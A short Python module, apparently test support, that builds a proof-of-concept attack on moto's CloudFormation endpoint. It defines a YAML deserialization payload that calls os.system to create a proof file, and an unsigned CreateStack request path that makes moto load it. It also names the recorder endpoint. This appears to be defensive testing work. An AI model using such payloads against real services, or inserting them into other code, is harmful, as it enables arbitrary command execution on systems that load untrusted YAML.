"""What a hostile page asks moto for: templates and recordings, where those would leave a file behind."""

from pathlib import Path
from urllib.parse import urlencode


def template(proof: Path) -> str:
    """A CloudFormation template that creates the file when an unsafe YAML loader reads it."""
    return f"!!python/object/apply:os.system ['touch {proof}']"


def create_stack(proof: Path) -> str:
    """The path of an unsigned request that moto answers by loading the template."""
    query = {"Action": "CreateStack", "StackName": "evil", "TemplateBody": template(proof)}
    return f"/cloudformation_us-east-1/cfnresponse?{urlencode(query)}"


START_RECORDING = "/moto-api/recorder/start-recording"
